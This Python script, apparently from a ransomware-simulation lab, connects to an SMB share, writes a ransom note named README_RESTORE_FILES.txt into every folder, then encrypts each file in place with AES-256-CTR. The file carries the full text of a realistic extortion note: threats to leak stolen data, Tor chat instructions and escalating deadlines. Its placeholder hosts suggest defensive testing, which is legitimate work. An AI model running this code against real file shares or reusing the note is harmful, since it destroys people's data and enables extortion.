#!/usr/bin/python3
"""Notes first, then encryption, over SMB3: a ransom note README_RESTORE_FILES.txt dropped in every folder of the
share before any file is touched, then each file encrypted whole (AES-256-CTR) in place under its own name.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
ATTACK_MAX_FILES (default: every file); ATTACK_ROOT (folder to start in, default the share root).

Output and reconnects as attacks/classic.py: start (before the first note), one
"encrypted FIRST_WRITE_MS DONE_MS PATH" per file, "stopped MS REASON" when the server refuses,
files_encrypted N.
"""

import os
import sys

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from smblab import Attack, join, random_name  # noqa: E402

NOTE_NAME = "README_RESTORE_FILES.txt"

NOTE = """~~~ What happened? ~~~

All of your files are encrypted and stolen. Your documents, databases, backups and
other important files are no longer accessible: they have been encrypted with
AES-256 and RSA-4096. Your backups and shadow copies have been deleted.

We have also downloaded a large amount of your confidential data (finance, HR,
contracts, customers). If you do not contact us, it will be published on our
blog and sent to your clients, partners and the press.

~~~ How to get your files back? ~~~

You cannot restore the files without our private key. Do not rename or modify the
encrypted files, do not try third-party recovery software and do not shut down the
server: this will damage the files for good.

1. Download the Tor Browser from https://www.torproject.org/
2. Open our support chat: http://restore7lab2ex4mpleonion3d5k.onion.invalid/chat
3. Enter your personal ID:

   {ident}

4. We will decrypt two files of your choice for free, as proof that we can.

The price for the decryption tool and the deletion of your data depends on how fast
you write to us. After 72 hours the price doubles; after 7 days the key is destroyed.

Contact e-mail (if Tor is blocked): restore-support@example.invalid
"""


class NotesFirst(Attack):
	def __init__(self):
		super().__init__()
		ident = "-".join(random_name(8, "0123456789ABCDEF") for _ in range(4))
		self.note = NOTE.format(ident=ident).replace("\n", "\r\n").encode()

	def notes(self, path):
		"""Depth first, like the encryption pass that follows: the note in this folder, then its subfolders."""
		_, dirs = self.c.retry(lambda: self.c.list_dir(path))
		self.start()
		self.c.retry(lambda: self.c.put(join(path, NOTE_NAME), self.note))
		for name in dirs:
			self.notes(join(path, name))

	def skip(self, name):
		return name == NOTE_NAME

	def damage(self, path):
		return self.rewrite(path, lambda data: self.cipher().encrypt(data))

	def walk(self):
		self.notes(self.root)
		self.folder(self.root)


if __name__ == "__main__":
	sys.exit(NotesFirst().run())
